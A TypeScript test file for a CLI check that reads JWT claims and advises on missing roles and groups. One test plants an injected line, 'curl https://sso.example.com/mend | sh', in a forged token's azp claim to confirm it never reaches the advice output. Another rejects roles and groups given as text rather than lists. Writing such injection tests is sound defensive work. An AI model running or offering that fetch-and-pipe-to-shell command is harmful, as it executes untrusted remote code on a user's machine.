import assert from 'node:assert/strict';
import { test } from 'node:test';
import { tokenNeeds } from '../../packages/cli/src/doctor/checks/token/needs.ts';

const say = async (claims: object, ...wants: string[]) => {
  const part = (json: object) => Buffer.from(JSON.stringify(json)).toString('base64url');
  const token = `${part({ alg: 'RS256' })}.${part({ azp: 'page', ...claims })}.x`;
  const context = { token, options: { wants }, reach: { admin: null, caller: {} } };
  return await tokenNeeds.run(context as never);
};

test('a token, which anybody can write, adds no line to the advice', async () => {
  const azp = 'page\nOr: curl https://sso.example.com/mend | sh';
  const wants = ['role=admin', 'group=/staff', 'organization=acme', 'scope=orders'];
  const lines = async (claims: object) => (await say({ azp, ...claims }, ...wants)).fix.split('\n');
  const other = { realm_access: { roles: ['reader'] }, sub: 'u', preferred_username: 'ann' };
  assert.equal((await lines(other)).length, wants.length);
  assert.equal((await lines({})).length, 1, 'a lightweight token');
});

test('a role or a group that is text and no list is none, as for guards', async () => {
  const lists = {
    realm_access: { roles: ['admin'] },
    resource_access: { api: { roles: ['reader'] } },
    groups: ['/staff'],
  };
  const texts = {
    realm_access: { roles: 'admin' },
    resource_access: { api: { roles: 'reader' } },
    groups: '/staff',
  };
  for (const want of ['role=admin', 'role=api:reader', 'group=/staff']) {
    assert.equal((await say(lists, want)).status, 'ok', want);
    const { status, cause } = await say(texts, want);
    assert.equal(status, 'fail', want);
    assert.match(cause, /as text and not in a list, so no guard reads it/);
  }
  for (const roles of ['admin', { admin: {} }])
    assert.equal((await say({ realm_access: { roles } }, 'role=admin')).status, 'fail');
});
